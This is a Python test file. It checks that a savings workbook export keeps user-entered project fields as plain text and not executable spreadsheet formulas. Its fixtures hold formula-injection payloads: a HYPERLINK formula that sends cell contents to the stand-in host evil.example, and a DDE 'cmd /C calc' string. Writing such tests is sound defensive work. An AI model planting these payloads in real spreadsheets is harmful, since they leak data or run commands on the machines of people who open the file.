"""The savings workbook never turns a registry text (project name, contract reference, reasons) into a live
formula, while its own recomputing column stays a formula (store/spreadsheet.py)."""

from __future__ import annotations

import datetime as dt
import io

from openpyxl import load_workbook

from savings.caltrack import BaselineModel, FitStats, SegmentModel
from savings.xlsx import workbook
from store.savings import Project

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_hostile_texts_stay_text_and_the_formula_column_stays_a_formula():
    d = dt.date(2026, 2, 1)
    p = Project(
        "p1",
        "b1",
        "retrofit",
        HOSTILE,
        "electricity",
        None,
        d,
        d,
        d,
        d,
        d,
        d,
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        None,
    )
    res = [
        {
            "energy_type": "electricity",
            "unit": "kWh",
            "status": "ok",
            "reporting_days": 1,
            "predicted": 10.0,
            "metered": 9.0,
            "avoided": 1.0,
            "avoided_uncertainty": 0.5,
            "confidence_level": 0.9,
            "avoided_kgce": 0.1,
            "avoided_cost_yuan": 0.65,
            "previous_year_metered": None,
            "year_on_year_change": None,
            "hdd": 1.0,
            "cdd": 0.0,
            "previous_year_hdd": None,
            "previous_year_cdd": None,
            "reasons": ["-1+1 reason"],
        }
    ]
    model = BaselineModel(
        {"all": SegmentModel("all", "intercept_only", 10.0)}, FitStats(1, 1, 0, 0, 0, 0, 0, 10)
    )
    daily = {
        "electricity": [
            {
                "day": d,
                "workday": True,
                "mean_temp_c": 5.0,
                "hdd": 13.0,
                "cdd": 0.0,
                "predicted": 10.0,
                "metered": 9.0,
                "avoided": 1.0,
            }
        ]
    }
    book = load_workbook(io.BytesIO(workbook(p, res, {"electricity": model}, daily, "m", "0" * 64)))
    texts = {c.value: c for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (HOSTILE, "@SUM(1+1)*cmd", "-1+1 reason"):
        assert text in texts, text
        assert texts[text].data_type == "s", text
    formulas = [c for c in book["daily electricity"]["J"][1:]]
    assert formulas and all(c.data_type == "f" for c in formulas)
